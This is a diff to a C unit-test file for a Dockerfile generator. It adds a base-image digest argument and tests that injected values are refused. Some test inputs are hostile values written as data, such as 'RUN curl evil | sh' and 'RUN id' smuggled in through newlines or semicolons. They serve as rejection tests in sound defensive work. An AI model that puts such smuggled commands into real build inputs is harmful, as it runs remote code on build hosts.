@@ -66,7 +66,7 @@ static void names_and_dockerfile(void **state)
     assert_string_equal(ref, "127.0.0.1:5000/telo/apps:" TAG);
     assert_int_equal(build_image_ref(&CFG, TAG, ref, 20), -1);
     struct telo_err err;
-    char *df = build_dockerfile("telorun/node:latest-slim", "app/telo.yaml", &err);
+    char *df = build_dockerfile("telorun/node:latest-slim", NULL, "app/telo.yaml", &err);
     assert_string_equal(df, "FROM telorun/node:latest-slim\n"
                             "WORKDIR /app\n"
                             "COPY . /app\n"
@@ -75,8 +75,8 @@ static void names_and_dockerfile(void **state)
                             "ENV TELO_CACHE_DIR=/telo-cache\n"
                             "RUN [\"telo\",\"install\",\"/app/app/telo.yaml\"]\n");
     free(df);
-    assert_null(build_dockerfile("b", "app.yaml\nRUN curl evil | sh", &err));
-    assert_null(build_dockerfile("b\rFROM x", "app.yaml", &err));
+    assert_null(build_dockerfile("b", NULL, "app.yaml\nRUN curl evil | sh", &err));
+    assert_null(build_dockerfile("b\rFROM x", NULL, "app.yaml", &err));
     assert_string_equal(err.msg, "spec.image: an image reference may contain only letters, "
                                  "digits, '.', '_', '-', ':', '@' and '/' (found byte 0x0d at "
                                  "character 2)");
@@ -104,7 +104,7 @@ static void injected_entries_are_refused(void **state)
         assert_null(strstr(err.msg, INJECTIONS[i]));
         for (const char *c = err.msg; *c != '\0'; c++)
             assert_true((unsigned char)*c >= 0x20 && (unsigned char)*c < 0x7f);
-        assert_null(build_dockerfile("telorun/node:latest-slim", INJECTIONS[i], &err));
+        assert_null(build_dockerfile("telorun/node:latest-slim", NULL, INJECTIONS[i], &err));
         assert_non_null(strstr(err.msg, "spec.entry: may contain only"));
         struct build_job_input in = {.tag = TAG,
                                      .base_image = "telorun/node:latest-slim",
@@ -153,8 +153,8 @@ static void the_dockerfile_runs_telo_without_a_shell(void **state)
 {
     (void)state;
     struct telo_err err;
-    char *df =
-        build_dockerfile("registry.local:5000/telo/node@sha256:ab12", "x-1/_y.v2/e.telo", &err);
+    char *df = build_dockerfile("registry.local:5000/telo/node@sha256:ab12", NULL,
+                                "x-1/_y.v2/e.telo", &err);
     assert_non_null(df);
     /* One RUN, in the exec form, the entry inside the JSON array only. */
     const char *run = strstr(df, "\nRUN ");
@@ -173,9 +173,44 @@ static void the_dockerfile_runs_telo_without_a_shell(void **state)
     /* Base images a Dockerfile would read as more than one word, or expand. */
     const char *bad_images[] = {"node AS x", "node\nRUN id", "$EVIL", "node:1;id", "", "a\tb"};
     for (size_t i = 0; i < sizeof(bad_images) / sizeof(bad_images[0]); i++) {
-        assert_null(build_dockerfile(bad_images[i], "app/telo.yaml", &err));
+        assert_null(build_dockerfile(bad_images[i], NULL, "app/telo.yaml", &err));
         assert_non_null(strstr(err.msg, "spec.image: "));
     }
+}
+
+/* The digest an image's tag was keyed with is the base the build pulls (issue 17): a tag moved
+ * after the lookup cannot slip other content under that tag. */
+static void the_dockerfile_pins_the_keyed_base_digest(void **state)
+{
+    (void)state;
+    static const char digest[] =
+        "sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
+    struct telo_err err;
+    char *df = build_dockerfile("registry.local:5000/telo/node:slim", digest, "app.yaml", &err);
+    assert_non_null(df);
+    assert_int_equal(strncmp(df, "FROM registry.local:5000/telo/node:slim@sha256:0123", 51), 0);
+    assert_non_null(strstr(df, digest));
+    free(df);
+    /* An empty digest is none; an image pinned already keeps its own. */
+    df = build_dockerfile("node:slim", "", "app.yaml", &err);
+    assert_int_equal(strncmp(df, "FROM node:slim\n", 15), 0);
+    free(df);
+    df = build_dockerfile("node@sha256:ab12", digest, "app.yaml", &err);
+    assert_int_equal(strncmp(df, "FROM node@sha256:ab12\n", 22), 0);
+    free(df);
+    /* FROM takes one word: a digest that would be more, or that is no digest, is refused. */
+    const char *bad[] = {"sha256:ab cd", "sha256:",     ":ab12",         "sha256:ab\nRUN id",
+                         "ab12",         "SHA256:ab12", "sha256:ab12@x", "sha256:ab:12"};
+    for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
+        telo_err_clear(&err);
+        assert_null(build_dockerfile("node:slim", bad[i], "app.yaml", &err));
+        assert_non_null(strstr(err.msg, "the base image's digest is not"));
+    }
+    char long_digest[200];
+    memset(long_digest, 'a', sizeof(long_digest) - 1);
+    memcpy(long_digest, "sha256:", 7);
+    long_digest[sizeof(long_digest) - 1] = '\0';
+    assert_null(build_dockerfile("node:slim", long_digest, "app.yaml", &err));
 }
 
 static void tags_are_per_namespace_unless_shared(void **state)
@@ -474,6 +509,7 @@ int main(void)
         cmocka_unit_test(names_and_dockerfile),
         cmocka_unit_test(injected_entries_are_refused),
         cmocka_unit_test(the_dockerfile_runs_telo_without_a_shell),
+        cmocka_unit_test(the_dockerfile_pins_the_keyed_base_digest),
         cmocka_unit_test(tags_are_per_namespace_unless_shared),
         cmocka_unit_test(job_from_a_configmap_bundle),
         cmocka_unit_test(job_from_a_url_bundle_with_defaults),
